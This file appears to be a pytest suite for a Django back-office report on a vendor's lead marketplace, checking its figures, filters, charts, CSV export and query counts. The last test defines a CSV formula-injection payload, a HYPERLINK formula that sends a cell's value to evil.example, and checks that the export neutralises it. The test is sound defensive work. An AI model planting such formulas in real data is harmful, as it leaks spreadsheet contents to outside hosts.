"""The vendor's lead-marketplace report in the back office (issue 7, item 7; spec leads.md
"Vendor reporting"): figures per partner and overall, the period and program filters, the
"stale after N days" override, the charts' data, the CSV export, bounded queries."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from partnerhub.core import clock
from partnerhub.leads import services
from partnerhub.leads.models import RevealChannel
from tests.factories import VendorFactory
from tests.leads.factories import (
    CONTACT_EMAIL,
    CONTACT_NAME,
    CONTACT_PHONE,
    eligible_partner,
    lead_program,
    make_lead,
    make_lead_at,
)

URL = reverse("backoffice:lead_report")
CSV_URL = reverse("backoffice:lead_report_csv")
HOUR = dt.timedelta(hours=1)


@pytest.fixture
def worked(world, program):
    """A took two leads (one 2 h after publication, won, with a call 1 h after the take; one 4 h
    after, still open) and looked at the contacts again; B took one 6 h after and lost it."""
    now = clock.now()
    first = make_lead_at(program, now - dt.timedelta(days=3))
    second = make_lead_at(program, now - dt.timedelta(days=2), company_name="ООО «Вторая»")
    won = services.lead_take(
        lead=first, organisation=world.partner_a, now=first.published_at + 2 * HOUR
    )
    services.deal_event_add(
        deal=won, kind="call", happened_at=won.taken_at + HOUR, text="Созвонились", by=None
    )
    services.deal_close_won(deal=won, won_kind="portal", won_reference="stroymontazh.bitrix24.ru")
    open_deal = services.lead_take(
        lead=second, organisation=world.partner_a, now=second.published_at + 4 * HOUR
    )
    services.deal_contacts_reveal(
        deal=open_deal, by=world.user("a:manager"), channel=RevealChannel.PAGE
    )
    lost = services.lead_take(
        lead=second, organisation=world.partner_b, now=second.published_at + 6 * HOUR
    )
    services.deal_close_lost(deal=lost, reason="price")
    return {"won": won, "open": open_deal, "lost": lost}


def row_of(response, organisation):
    return next(r for r in response.context["rows"] if r["row"].organisation_id == organisation.pk)


def test_every_figure_per_partner(world, worked, login_as):
    response = login_as("vendor:support").get(URL)

    assert response.status_code == 200
    alfa = row_of(response, world.partner_a)["f"]
    assert (alfa.taken, alfa.won, alfa.lost, alfa.win_rate, alfa.open_now) == (2, 1, 0, 100, 1)
    assert alfa.to_take.median == 3 * HOUR
    assert alfa.to_first_event.median == HOUR
    assert alfa.without_event == 1
    assert (alfa.reveals, alfa.revealed_leads) == (3, 2)
    assert alfa.reveals_by_channel == {"page": 1, "take": 2}


def test_the_overall_figures(world, worked, login_as):
    response = login_as("vendor:program_manager").get(URL)

    overall = response.context["overall"]["f"]
    assert (overall.taken, overall.won, overall.lost) == (3, 1, 1)
    assert str(overall.win_rate) == "50.0"
    assert response.context["report"].to_first_take.median == 3 * HOUR  # leads: 2 h and 4 h
    assert 'id="overall-win-rate">50,0&nbsp;%' in response.content.decode()


def test_the_page_has_the_three_charts_and_their_data(world, worked, login_as):
    response = login_as("vendor:accountant").get(URL)

    html = response.content.decode()
    for holder in ("chart-taken", "chart-win", "chart-weekly"):
        assert f'id="{holder}"' in html
    assert "js/lead_report.js" in html
    chart = response.context["chart"]
    assert chart["partners"] == ["ООО «Альфа»", "ООО «Бета»"]
    assert chart["taken"] == [2, 1]
    assert chart["win_rate"] == [100.0, 0.0]
    assert sum(chart["weekly"]) == 3


def test_stale_deals_follow_the_program_or_the_given_days(world, program, login_as):
    lead = make_lead_at(program, clock.now() - dt.timedelta(days=5))
    services.lead_take(lead=lead, organisation=world.partner_a, now=lead.published_at)
    client = login_as("vendor:support")

    assert client.get(URL).context["overall"]["f"].stale_now == 0  # the program: 7 days
    assert client.get(URL, {"stale_days": 5}).context["overall"]["f"].stale_now == 1


def test_stuck_deals_are_listed_idle_longest_first(world, program, login_as):
    now = clock.now()
    idle = {}
    for partner, days in ((world.partner_a, 8), (world.partner_b, 12)):
        lead = make_lead_at(program, now - dt.timedelta(days=days))
        idle[partner.pk] = services.lead_take(
            lead=lead, organisation=partner, now=lead.published_at
        )
    fresh_lead = make_lead_at(program, now - dt.timedelta(days=9), company_name="ООО «Живая»")
    fresh = services.lead_take(
        lead=fresh_lead, organisation=world.partner_a, now=fresh_lead.published_at
    )
    services.deal_event_add(
        deal=fresh, kind="note", happened_at=now - HOUR, text="Ждём КП", by=None
    )

    response = login_as("vendor:support").get(URL)

    listed = response.context["stale_deals"]
    assert [d.deal_id for d in listed] == [idle[world.partner_b.pk].pk, idle[world.partner_a.pk].pk]
    assert [d.idle_days for d in listed] == [12, 8]
    assert f'data-deal="{fresh.pk}"' not in response.content.decode()


def test_the_period_filter_leaves_out_older_takes(world, worked, login_as):
    today = clock.today()
    since_yesterday = {"from": f"{today:%d.%m.%Y}", "to": f"{today:%d.%m.%Y}"}

    response = login_as("vendor:support").get(URL, since_yesterday)

    assert response.context["overall"]["f"].taken == 0
    assert response.context["overall"]["f"].won == 1  # closed today


def test_a_period_ending_before_it_starts_is_refused_with_a_message(world, login_as):
    response = login_as("vendor:support").get(URL, {"from": "10.03.2026", "to": "01.03.2026"})

    assert response.status_code == 400
    assert "Конец периода раньше его начала." in response.content.decode()


def test_another_vendors_program_is_not_reported(world, worked, login_as):
    other = lead_program(VendorFactory())
    stranger = eligible_partner(other)
    services.lead_take(lead=make_lead(other), organisation=stranger)
    client = login_as("vendor:support")

    assert client.get(URL).context["overall"]["f"].taken == 3
    assert client.get(URL, {"program": other.code}).status_code == 400


def test_the_report_shows_no_personal_data(world, worked, login_as):
    html = login_as("vendor:support").get(URL).content.decode()

    for secret in (CONTACT_NAME, CONTACT_PHONE, CONTACT_EMAIL):
        assert secret not in html


def test_the_csv_has_a_line_per_partner_and_the_total_for_excel(world, worked, login_as):
    response = login_as("vendor:accountant").get(CSV_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header = rows[0]
    assert header[:3] == ["Партнёр", "ИНН", "Взято заявок"]
    alfa = dict(zip(header, rows[1]))
    assert alfa["Партнёр"] == "ООО «Альфа»"
    assert alfa["ИНН"] == "7707083893"
    assert alfa["До взятия: медиана, ч"] == "3,0"
    assert alfa["Доля выигранных, %"] == "100,0"
    assert alfa["Раскрытий: Страница сделки"] == "1"
    assert rows[-1][0] == "Итого"
    assert dict(zip(header, rows[-1]))["Взято заявок"] == "3"
    assert b"\r\n" in response.content


def test_the_report_queries_do_not_grow_with_partners(
    world, program, login_as, django_assert_max_num_queries
):
    ten_days_ago = clock.now() - dt.timedelta(days=10)
    for _ in range(12):
        partner = eligible_partner(program)
        lead = make_lead_at(program, ten_days_ago)
        deal = services.lead_take(lead=lead, organisation=partner, now=ten_days_ago)
        services.deal_contacts_reveal(deal=deal, by=None, channel=RevealChannel.API)
    client = login_as("vendor:support")

    with django_assert_max_num_queries(11):
        response = client.get(URL)
    with django_assert_max_num_queries(11):
        client.get(CSV_URL)

    assert len(response.context["rows"]) == 12
    assert len(response.context["stale_deals"]) == 12


def test_a_vendor_without_a_lead_program_sees_an_empty_report(world, login_as):
    response = login_as("vendor:support").get(URL)

    assert response.status_code == 200
    assert response.context["rows"] == []
    assert "За период сделок нет." in response.content.decode()


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Beta")'


def test_a_partner_name_that_is_a_formula_is_text_in_the_csv(world, worked, login_as):
    world.partner_a.short_name = HOSTILE_NAME
    world.partner_a.save(update_fields=["short_name"])

    response = login_as("vendor:accountant").get(CSV_URL)

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    names = [r[0] for r in rows[1:-1]]
    assert "'" + HOSTILE_NAME in names
    assert HOSTILE_NAME not in names
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
